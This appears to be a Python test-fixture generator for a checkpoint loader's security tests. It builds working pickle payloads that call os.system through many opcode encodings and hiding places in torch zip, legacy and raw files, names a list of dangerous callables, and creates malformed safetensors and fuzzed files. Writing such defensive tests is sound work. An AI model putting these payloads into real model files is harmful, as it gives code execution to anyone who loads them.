"""Malformed and malicious checkpoint files, generated at each run; none of them is in the repository."""

from __future__ import annotations

import io
import json
import pickle
import struct
import zipfile
from collections.abc import Mapping
from typing import Any

import numpy as np

MARK = "touched by a checkpoint"
"""The text that every payload would write into its sentinel file."""

CALLS = (
    "os system", "posix system", "nt system", "os popen", "os execv", "subprocess Popen", "subprocess check_output",
    "builtins eval", "builtins exec", "builtins __import__", "builtins getattr", "builtins compile", "builtins open",
    "builtins print", "__builtin__ eval", "__builtin__ execfile", "runpy run_path", "pkgutil resolve_name",
    "importlib import_module", "pty spawn", "code interact", "timeit timeit", "cProfile run", "pdb run", "bdb Bdb.run",
    "operator attrgetter", "operator methodcaller", "functools partial", "types FunctionType", "types CodeType",
    "marshal loads", "pickle loads", "_pickle Unpickler", "copyreg _reconstructor", "copyreg add_extension",
    "socket create_connection", "urllib.request urlopen", "webbrowser open", "shutil rmtree", "ctypes CDLL",
    "asyncio.unix_events _UnixSubprocessTransport._start", "pip main", "idlelib.pyshell ModifiedInterpreter",
    "torch.hub load", "torch load", "torch.storage _load_from_bytes", "torch.serialization load", "torch.jit load",
    "torch.jit.unsupported_tensor_ops execWrapper", "torch._utils _rebuild_tensor_v2.__globals__",
    "collections OrderedDict.__init__", "torch.FloatStorage __class__", "numpy load", "numpy.testing._private.utils runstring",
)  # fmt: skip


def _global(name: str) -> bytes:
    module, attribute = name.split(" ")
    return f"c{module}\n{attribute}\n".encode()


def _short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


def encodings(command: str) -> dict[str, bytes]:
    """Returns a complete pickle for every way in which a pickle can name and call os.system."""
    argument = b"X" + struct.pack("<I", len(command)) + command.encode()
    system = _global("os system")
    return {
        "GLOBAL, REDUCE": b"\x80\x02" + system + argument + b"\x85R.",
        "STACK_GLOBAL": b"\x80\x04" + _short("os") + _short("system") + b"\x93" + argument + b"\x85R.",
        "STACK_GLOBAL by memo": b"\x80\x04" + _short("os") + b"\x94" + _short("system") + b"\x940h\x00h\x01\x93" + argument + b"\x85R.",
        "INST": b"(S'" + command.encode() + b"'\nios\nsystem\n.",
        "OBJ": b"\x80\x02(" + system + argument + b"o.",
        "NEWOBJ": b"\x80\x02" + system + argument + b"\x85\x81.",
        "NEWOBJ_EX": b"\x80\x04" + system + argument + b"\x85}\x92.",
        "BUILD": b"\x80\x02" + _global("os environ") + b"}" + argument + argument + b"sb.",
        "extension": b"\x80\x02\x82\x01" + argument + b"\x85R.",
        "protocol 0": b"cos\nsystem\n(S'" + command.encode() + b"'\ntR.",
        "in a value": b"\x80\x02}" + _short("epoch") + system + argument + b"\x85Rs.",
        "in a nested OrderedDict": b"\x80\x02}" + _short("model") + _global("collections OrderedDict") + b")R"
        + _short("w") + system + argument + b"\x85Rss.",
        "as a storage": b"\x80\x02(" + _short("storage") + system + _short("0") + _short("cpu") + b"K\x04tQ.",
        "as a dict key": b"\x80\x02}" + system + argument + b"\x85RNs.",
        "dropped by POP": b"\x80\x02" + system + argument + b"\x85R0}.",
        "as a tensor's rebuilder": b"\x80\x02" + _global("torch._tensor _rebuild_from_type_v2") + b"(" + system
        + _global("torch Tensor") + argument + b"\x85NtR.",
    }  # fmt: skip


def call(name: str, command: str) -> bytes:
    """Returns a pickle that calls `name` with one string."""
    return b"\x80\x02" + _global(name) + b"X" + struct.pack("<I", len(command)) + command.encode() + b"\x85R."


def torch_zip(data: bytes, records: Mapping[str, bytes] | None = None, *, root: str = "archive", **options: Any) -> bytes:
    """Returns a torch.save zip container of the pickle `data`, storages and further records by name (under the root)."""
    memory = io.BytesIO()
    with zipfile.ZipFile(memory, "w", options.pop("compression", zipfile.ZIP_STORED)) as archive:
        everything = {"data.pkl": data, "byteorder": b"little", "version": b"3\n", **(records or {})}
        for name, content in everything.items():
            archive.writestr(name if name.startswith("!") else f"{root}/{name}", content)
    return memory.getvalue()


def legacy(data: bytes, *, magic: bytes | None = None, keys: bytes | None = None, storages: bytes = b"") -> bytes:
    """Returns the five pickles of torch.save before 1.6, followed by the storages."""
    system = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
    start = pickle.dumps(0x1950A86A20F9469CFC6C, 2) if magic is None else magic
    parts = [start, pickle.dumps(1001, 2), pickle.dumps(system, 2), data, pickle.dumps([], 2) if keys is None else keys]
    return b"".join(parts) + storages


def tensor(
    shape: tuple[int, ...], strides: tuple[int, ...], count: int, *, kind: str = "FloatStorage", offset: int = 0
) -> bytes:
    """Returns a pickle of {"w": a tensor} over a storage "0" of `count` elements."""

    def encode_int(number: int) -> bytes:
        return b"\x8a\x09" + number.to_bytes(9, "little", signed=True)

    def many(numbers: tuple[int, ...]) -> bytes:
        return b"(" + b"".join(map(encode_int, numbers)) + b"t"

    storage = b"(" + _short("storage") + _global(f"torch {kind}") + _short("0") + _short("cpu") + encode_int(count) + b"tQ"
    arguments = b"(" + storage + encode_int(offset) + many(shape) + many(strides) + b"\x89}t"
    return b"\x80\x02}" + _short("w") + _global("torch._utils _rebuild_tensor_v2") + arguments + b"Rs."


def payloads(command: str) -> dict[str, bytes]:
    """Returns files that would run `command`, or do similar harm, in a reader that trusts them."""
    files = {f"zip, {name}": torch_zip(call(name, command)) for name in CALLS}
    for name, data in encodings(command).items():
        files[f"zip, {name}"] = torch_zip(data)
        files[f"legacy, {name}"] = legacy(data)
        files[f"raw, {name}"] = data
    bomb, good = call("os system", command), tensor((1,), (1,), 1)
    files["zip, in a second pickle"] = torch_zip(good, {"data/0": b"1234", "extra.pkl": bomb})
    files["zip, beside an evil root"] = torch_zip(bomb, root="a.b-c")
    files["raw, after the end"] = pickle.dumps({"a": 1}) + bomb
    files["legacy, as the magic number"] = legacy(good, magic=bomb)
    files["legacy, as the list of storages"] = legacy(good, keys=bomb)
    return files


def safetensors(header: Any, data: bytes = b"", *, length: int | None = None) -> bytes:
    """Returns a .safetensors file with this header: an object for JSON, or raw bytes."""
    text = header if isinstance(header, bytes) else json.dumps(header).encode()
    return struct.pack("<Q", len(text) if length is None else length) + text + data


def entry(begin: int = 0, end: int = 8, shape: Any = (2,), dtype: Any = "F32") -> dict[str, Any]:
    return {"dtype": dtype, "shape": list(shape) if isinstance(shape, tuple) else shape, "data_offsets": [begin, end]}


def mutations(data: bytes, count: int, seed: int) -> list[bytes]:
    """Returns `count` copies of the bytes, each with a few changed, removed, duplicated or truncated."""
    random = np.random.default_rng(seed)
    changed = []
    for _ in range(count):
        copy = bytearray(data)
        for _ in range(int(random.integers(1, 4))):
            index = int(random.integers(0, max(len(copy), 1)))
            how = int(random.integers(0, 5))
            if how == 0 and copy:
                copy[index] ^= 1 << int(random.integers(0, 8))
            elif how == 1 and copy:
                copy[index] = int(random.integers(0, 256))
            elif how == 2:
                del copy[index : index + int(random.integers(1, 9))]
            elif how == 3:
                copy[index:index] = copy[index : index + int(random.integers(1, 9))]
            elif random.random() < 0.2:
                del copy[index:]
        changed.append(bytes(copy))
    return changed
